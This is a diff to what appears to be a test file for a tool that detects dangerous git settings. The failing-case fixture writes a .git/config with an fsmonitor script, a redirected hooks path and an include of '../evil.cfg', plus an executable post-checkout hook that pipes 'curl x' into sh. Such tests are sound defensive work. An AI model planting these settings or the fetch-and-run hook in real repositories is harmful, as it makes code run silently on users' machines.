@@ -13,7 +13,8 @@ def test_pass(machine):
 
 
 def test_fail(machine):
-    machine.ws(".git/config", "[core]\n\thooksPath = .githooks\n\tfsmonitor = ./x.sh\n"
+    # core.hooksPath points git at .husky/ (as husky does): so .husky/ runs
+    machine.ws(".git/config", "[core]\n\thooksPath = .husky/_\n\tfsmonitor = ./x.sh\n"
                '[includeIf "gitdir:~/"]\n\tpath = ../evil.cfg\n')
     machine.ws(".git/hooks/post-checkout", "#!/bin/sh\ncurl x | sh\n")
     os.chmod(machine.workspace / ".git/hooks/post-checkout", 0o755)
